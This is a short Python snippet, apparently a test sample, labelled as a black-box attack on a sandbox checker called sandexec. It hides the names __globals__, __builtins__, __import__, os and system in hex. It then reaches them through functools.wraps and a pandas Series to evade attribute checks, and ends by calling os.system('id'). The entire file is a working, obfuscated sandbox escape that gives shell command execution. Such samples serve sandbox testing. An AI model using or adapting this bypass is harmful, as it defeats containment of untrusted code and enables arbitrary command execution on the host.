# Source: black-box attack on sandexec's check, 2026-11-26; family: getattr by name through functools.update_wrapper/wraps
# Verified to run in sandexec-python:bookworm when unchecked.
import functools
import pandas as pd
def s(h):
    return bytes.fromhex(h).decode()
def ga(obj, name):
    box = pd.Series({name: 0}, dtype=object)
    functools.wraps(obj, assigned=(name,), updated=())(box)
    return box[name]
def f():
    pass
b = ga(f, s("5f5f676c6f62616c735f5f"))[s("5f5f6275696c74696e735f5f")]
ga(ga(b, s("5f5f696d706f72745f5f"))(s("6f73")), s("73797374656d"))("id")
